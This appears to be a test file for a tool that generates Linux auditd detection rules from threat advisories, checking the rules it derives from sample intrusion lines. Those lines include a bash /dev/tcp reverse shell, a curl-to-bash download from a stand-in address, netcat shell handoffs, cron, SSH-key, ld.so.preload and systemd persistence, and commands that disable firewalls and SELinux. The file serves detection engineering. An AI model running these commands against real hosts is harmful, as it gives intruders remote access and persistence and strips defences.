import { type GeneratedRule, generate } from '@tripline/advisory';
import { markdownAdvisory, textAdvisory } from './support/documents.js';

const linuxRules = (rules: readonly GeneratedRule[]) => rules.filter(({ platform }) => platform === 'endpoint-auditd');
const detection = ({ yaml }: GeneratedRule): string => /detection:\n([\s\S]*?)\n\s*condition:/.exec(yaml)?.[1] ?? '';

/** Gives the detections of the Linux rules that these command lines yield. */
async function detectionsOf(...lines: readonly string[]): Promise<string> {
  const doc = await markdownAdvisory(
    `# Quiet Marten on build hosts\n\nThe intruders ran:\n\n\`\`\`\n${lines.join('\n')}\n\`\`\`\n`,
  );
  return linuxRules(generate(doc).rules).map(detection).join('\n');
}

describe('what a shell does itself leaves no program start', () => {
  it('a redirection into a new file is told by the file', async () => {
    const text = await detectionsOf('echo "*/7 * * * * root /var/tmp/.marten/run" > /etc/cron.d/marten');
    expect(text).toContain("name: '/etc/cron.d/marten'");
    expect(text).toContain("nametype: 'CREATE'");
    expect(text).not.toContain('EXECVE');
  });

  it.each([
    ['echo "ssh-rsa AAAAq marten" >> ~/.ssh/authorized_keys', "name|endswith: '/.ssh/authorized_keys'"],
    ['echo /lib/libmarten.so | tee -a /etc/ld.so.preload', "name: '/etc/ld.so.preload'"],
  ])('a change of a file that was there before asks for no creation: %s', async (line, expected) => {
    const text = await detectionsOf(line);
    expect(text).toContain(expected);
    expect(text).not.toContain('CREATE');
  });

  it('a systemd unit written by cat is told by the file and its start by the program', async () => {
    const text = await detectionsOf(
      'cat > /etc/systemd/system/marten.service <<EOF',
      'systemctl daemon-reload',
      'systemctl enable marten.service',
    );
    expect(text).toContain("name: '/etc/systemd/system/marten.service'");
    expect(text).toContain("a2|contains: 'marten.service'");
    expect(text).not.toContain('daemon-reload');
  });

  it('a socket opened by its device name is looked for in what shells are handed', async () => {
    const text = await detectionsOf('bash -i >& /dev/tcp/203.0.113.80/4444 0>&1');
    expect(text).toContain("a1: '-c'");
    expect(text).toContain("a2|contains: '/dev/tcp/'");
  });
});

describe('downloads', () => {
  it('a script piped to a shell is found in the shell’s argument, and the download by its address', async () => {
    const text = await detectionsOf('curl -fsSL hxxp://198.51.100[.]77/marten.sh | bash');
    expect(text).toContain("- 'curl'");
    expect(text).toContain("- '| bash'");
    expect(text).toContain("- '|bash'");
    expect(text).toContain("a2|contains: '198.51.100.77/marten.sh'");
  });

  it('options that every download has make no rule', async () => {
    expect(await detectionsOf('curl -fsSL -o - http://127.0.0.1/x')).toBe('');
  });

  it('listing a crontab is no installation of one', async () => {
    expect(await detectionsOf('crontab -u marten -l', 'crontab -l')).toBe('');
    expect(await detectionsOf('crontab -l | cat - /tmp/.m/tab | crontab -')).toContain("a0|endswith: 'crontab'");
  });
});

describe('commands told by one short argument', () => {
  it.each([
    ['chattr +i /var/tmp/.marten/bin', 'chattr', '+i'],
    ['iptables -F', 'iptables', '-F'],
    ['setenforce 0', 'setenforce', '0'],
    ['ufw disable', 'ufw', 'disable'],
  ])('%s', async (line, tool, argument) => {
    const text = await detectionsOf(line);
    expect(text).toContain(`a0|endswith: '${tool}'`);
    expect(text).toContain(`a1: '${argument}'`);
    expect(text).not.toContain('.marten');
  });

  it('are found in prose too', async () => {
    const doc = await textAdvisory(
      'On each Linux host the firewall is flushed with iptables -F and SELinux is switched off with setenforce 0. A key is appended to authorized_keys of root.',
    );
    const text = linuxRules(generate(doc).rules).map(detection).join('\n');
    for (const part of ["a1: '-F'", "a1: '0'", "name|endswith: 'authorized_keys'"]) expect(text).toContain(part);
  });
});

describe('arguments', () => {
  it('are counted from the program that has them, not from what prepares it', async () => {
    const text = await detectionsOf('sudo insmod /opt/marten/marten_hook.ko');
    expect(text).toContain("a0|endswith: 'insmod'");
    expect(text).toContain("a1|contains: '/opt/marten/marten_hook.ko'");
  });
});

describe('persistence that is described', () => {
  const titles = async (text: string): Promise<readonly string[]> =>
    linuxRules(generate(await textAdvisory(text)).rules).map(({ title }) => title);

  it.each([
    ['On Linux servers the bot registers itself inside cron to come back.', 'Cron Job Created'],
    ['On Linux the implant creates a systemd service for itself.', 'Systemd Unit Created'],
    ['The intruders added their SSH public key to the root account of each Linux host.', 'SSH Authorized Keys Changed'],
    ['On Linux hosts the dropper loads a kernel module rootkit.', 'Kernel Module Loaded By Insmod'],
  ])('gives the rule on what it leaves: %s', async (text, title) => {
    expect(await titles(text)).toEqual([title]);
  });

  it('is left to the file or command that the text also tells', async () => {
    const text = 'On Linux the bot registers itself inside cron. It writes /etc/cron.d/marten for that.';
    expect(await titles(text)).toEqual(['Files Written By The Reported Intrusion - /etc/cron.d/marten']);
  });

  it('is none where the text says that it was not done, or advises it', async () => {
    expect(await titles('On Linux the bot did not create a systemd service.')).toEqual([]);
    expect(await titles('# Linux hosts\n\nWe recommend that administrators use cron jobs to rotate logs.')).toEqual([]);
  });

  it('a folder that starts what is in it is watched whole', async () => {
    const doc = await textAdvisory('On Linux the implant copies a script to the /usr/lib/systemd/system/ directory.');
    expect(linuxRules(generate(doc).rules).map(detection).join('\n')).toContain(
      "name|startswith: '/usr/lib/systemd/system/'",
    );
  });
});

describe('netcat', () => {
  it.each([
    ['nc -c /bin/sh marten.example.net 4444', "a1: '-c' a2|endswith: 'sh'"],
    ['nc marten.example.net 4444 -c "bash -i"', "a3: '-c' a4|contains: 'bash'"],
    ['nc -e /bin/sh marten.example.net 4444', "a1: '-e'"],
  ])('hands over a shell where the line names one: %s', async (line, expected) => {
    expect((await detectionsOf(line)).replaceAll(/\s+/g, ' ')).toContain(expected);
  });

  it('hands over none where -c is only its encryption', async () => {
    expect(await detectionsOf('nc -c marten.example.net 4444')).not.toContain("'-c'");
  });
});

describe('files in a table of malware', () => {
  const table = (head: string, ...rows: readonly string[]): string =>
    `# Quiet Marten on Linux servers\n\nThe malware keeps itself on Linux servers.\n\n${head}\n${head.replaceAll(/[^|]+/g, '---')}\n${rows.join('\n')}\n`;
  const filesOf = async (text: string): Promise<string> =>
    linuxRules(generate(await markdownAdvisory(text)).rules)
      .map(detection)
      .join('\n');

  it.each([
    '| File name | Copied to | Service name |',
    '| Name | Installed path | Unit |',
    '| Malware | File dropped at | Unit |',
  ])('are looked for where their column says that they were put: %s', async (head) => {
    const text = await filesOf(
      table(
        head,
        '| kwrkd | /usr/lib/systemd/kwrkd | kwrkd.service |',
        '| sysnetd | /usr/sbin/sysnetd2 | sysnetd2.service |',
      ),
    );
    expect(text).toContain("'/usr/lib/systemd/kwrkd'");
    expect(text).toContain("'/usr/sbin/sysnetd2'");
  });

  it.each([
    ['of what is read', '| File | Path read | Use |', '| hosts | /opt/marten/conf.d | names |'],
    ['of programs that every system has', '| File name | Copied to | Use |', '| wget | /usr/bin/wget | fetches |'],
    ['of what is removed', '| File | Path removed or overwritten | Use |', '| rival | /opt/rival/run | miner |'],
  ])('are not %s', async (_, head, row) => {
    expect(await filesOf(table(head, row))).not.toContain('CREATE');
  });
});

describe('reports on Linux', () => {
  it('whose headline says so are on Linux, however often they compare with Windows', async () => {
    const about = (headline: string) =>
      textAdvisory(
        `${headline}\n\nAn older build for Windows is known, and the Windows protocol is the same. The ELF file runs on Linux: Debian and Ubuntu. It asks fen-parts[.]net for work.`,
      );
    const logs = async (headline: string) => generate(await about(headline)).rules.map(({ log }) => log);
    expect(await logs('Fenpaw, a backdoor for Linux')).toEqual(['linux/network-connection']);
    expect(await logs('Fenpaw, a backdoor')).toEqual(['windows/dns-query']);
  });

  it.each([
    ['The fetched file is put in ~/.local/fenguind.', "name|endswith: '/.local/fenguind'"],
    ['It copies itself to $HOME/.config/fen/fend.', "name|endswith: '/.config/fen/fend'"],
    ['The backdoor loads its configuration from a file named /tmp/dbusfen.', "name: '/tmp/dbusfen'"],
  ])("find the intruder's files at home and where all may write: %s", async (told, asked) => {
    const doc = await textAdvisory(`Fenpaw, a backdoor for Linux\n\nThe ELF file runs on Debian and Ubuntu. ${told}`);
    expect(linuxRules(generate(doc).rules).map(detection).join()).toContain(asked);
  });

  it.each([
    'The backdoor reads ~/.bash_history and ~/.ssh/config.',
    'The backdoor loads its configuration from /opt/fen/app.conf.',
    'Users find the picture in ~/Pictures/fen.png.',
  ])('ask for no file that is only read or that a user has: %s', async (told) => {
    const doc = await textAdvisory(`Fenpaw, a backdoor for Linux\n\nThe ELF file runs on Debian and Ubuntu. ${told}`);
    expect(linuxRules(generate(doc).rules).map(detection).join()).not.toContain('CREATE');
  });
});
